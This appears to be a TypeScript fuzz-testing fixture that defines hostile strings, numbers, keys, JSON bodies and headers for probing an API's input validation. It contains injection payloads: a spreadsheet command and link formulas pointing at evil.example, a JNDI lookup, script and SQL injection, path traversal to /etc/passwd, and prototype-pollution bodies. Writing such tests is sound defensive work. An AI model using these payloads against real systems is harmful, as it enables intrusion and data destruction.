/** What no careful caller sends. Texts carry the mark where they can, so that a refusal which quotes them is seen. */
import fc from 'fast-check';

/** No refusal may say it back: what was sent may be personal, and refusals end up in logs of clients. */
export const MARK = 'zzmarkzz';

const deep = (levels: number): unknown => {
  let value: unknown = MARK;
  for (let level = 0; level < levels; level += 1) value = level % 2 === 0 ? [value] : { deeper: value };
  return value;
};

export const TEXTS: readonly string[] = [
  '',
  ' ',
  'null',
  '\u0000',
  `${MARK}\u0000`,
  `${MARK}\r\nBcc: everybody@people.example`,
  `=HYPERLINK("https://evil.example/${MARK}")`,
  `=cmd|' /C calc'!A0 ${MARK}`,
  `<script>alert('${MARK}')</script>`,
  `'; DROP TABLE mentorships; -- ${MARK}`,
  `\${jndi:ldap://evil.example/${MARK}}`,
  `{{constructor.constructor('return ${MARK}')()}}`,
  `../../../../etc/passwd%00${MARK}`,
  `\u202e${MARK}\u202c`,
  `مرحبا ${MARK} שלום`,
  '👩‍👩‍👧‍👦🏳️‍🌈',
  `e${'\u0301'.repeat(500)}`,
  '\ufeff\u200b\u200d',
  '\ud800',
  `half \udfff ${MARK}`,
  '__proto__',
  'constructor',
  'toString',
  `org_cncf#${MARK}`,
  'app_0absent#EVENT',
  '9'.repeat(400),
  `${MARK}${'x'.repeat(30_000)}`,
  '2026-02-30',
  '2026-13-45T25:61:61Z',
  '+275760-09-13T00:00:00.001Z',
  'https://',
  'https://user:password@people.example:99999/',
  `https://people.example/${MARK}\u202egnp.exe`,
  `https://people.example/${MARK}\r\nBcc: everybody@people.example`,
  `https://people.example/${MARK}\udfff`,
  `https://${MARK}@people.example/?q="><script>alert(1)</script>`,
  `javascript:alert('${MARK}')`,
  `data:text/html,${MARK}`,
];

export const NUMBERS: readonly number[] = [
  0,
  -0,
  -1,
  0.1,
  1e-320,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 53,
  2 ** 53 + 2,
  -(2 ** 53),
  1e308,
  -1e308,
  100_000_000_001,
];

/** Any characters, halves of them too. What fast-check has for it takes seconds to make ready. */
const anyText = (maxLength: number): fc.Arbitrary<string> =>
  fc
    .array(fc.oneof(fc.nat(0xff), fc.nat(0xffff), fc.nat(0x10ffff)), { maxLength })
    .map((points) => String.fromCodePoint(...points));

/** Values of every kind that fit hardly any field. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...TEXTS) },
  { weight: 3, arbitrary: fc.constantFrom(...NUMBERS) },
  { weight: 1, arbitrary: fc.maxSafeInteger() },
  { weight: 2, arbitrary: anyText(40) },
  {
    weight: 2,
    arbitrary: fc.constantFrom<unknown>(null, true, false, [], {}, [[]], [null], { length: 1e9 }),
  },
  { weight: 1, arbitrary: fc.integer({ min: 1, max: 400 }).map(deep) },
  { weight: 1, arbitrary: fc.integer({ min: 1, max: 3000 }).map((length) => Array(length).fill(0)) },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

/** Names no body has; own fields of these names must not reach a prototype. */
export const hostileKey: fc.Arbitrary<string> = fc.constantFrom(
  ...[
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    'pk',
    'sk',
    'version',
    'state',
    '',
  ],
  ...['personId', 'organizationId', 'a/b~c', '\u0000', '\ud83d', 'x'.repeat(5000)],
);

export const hostileText: fc.Arbitrary<string> = fc.oneof(fc.constantFrom(...TEXTS), anyText(40));

/** Bodies that are no JSON, or JSON of a kind that `JSON.stringify` never writes. */
export const hostileBody: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    ...[
      '',
      ' ',
      '{',
      '{"a":}',
      '[1,]',
      "{'a':1}",
      '{"a":1}{"b":2}',
      'undefined',
      'NaN',
      '{"a":NaN}',
      '-',
      '"',
    ],
    ...['{"a":1e999}', '{"a":-1e999}', '{"a":0x10}', '{"a":01}', '\ufeff{}', '{}\u0000', '/* */{}', '<a/>'],
    ...[
      '{"__proto__":{"polluted":true}}',
      '{"constructor":{"prototype":{"polluted":true}}}',
      '{"a":1,"a":2}',
    ],
    ...['null', 'true', '0', '"text"', '[]', '[[]]', '{}', 'a=1&b=2', '{"a":"\\ud800"}', '{"a":"\\x"}'],
    '['.repeat(50_000),
    `${'['.repeat(20_000)}${']'.repeat(20_000)}`,
    `${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`,
    `{"text":"${'x'.repeat(262_145)}"}`,
  ),
  anyText(200),
);

/** Headers beside the usual ones, in place of them, or without them. */
export const hostileHeaders: fc.Arbitrary<Readonly<Record<string, string | undefined>>> = fc.constantFrom<
  Readonly<Record<string, string | undefined>>
>(
  { 'content-type': undefined },
  { 'content-type': '' },
  { 'content-type': 'text/xml' },
  { 'content-type': 'application/json, application/json' },
  { 'content-type': 'application/json; charset=utf-16' },
  { 'content-type': `application/json;${'x'.repeat(9000)}` },
  { 'content-type': 'application/x-www-form-urlencoded' },
  { 'content-type': 'multipart/form-data; boundary=x' },
  { 'if-match': undefined },
  { 'if-match': '' },
  { 'if-match': '*' },
  { 'if-match': '"1","2"' },
  { 'if-match': 'W/"1"' },
  { 'if-match': '"999999999999999"' },
  { 'if-match': '"9999999999999999"' },
  { 'if-match': `"${MARK}"` },
  { 'idempotency-key': '' },
  { 'idempotency-key': `${MARK} two words` },
  { 'idempotency-key': 'k'.repeat(129) },
  { 'idempotency-key': 'key, key' },
  { 'idempotency-key': 'ключ' },
  { 'x-forwarded-for': '127.0.0.1', host: 'evil.example', 'x-http-method-override': 'DELETE' },
  { 'x-oversized': 'x'.repeat(10_000) },
  { authorization: `Bearer ${MARK}`, cookie: `session=${MARK}` },
  { 'accept-language': '*', accept: 'image/png', range: 'bytes=0-' },
);
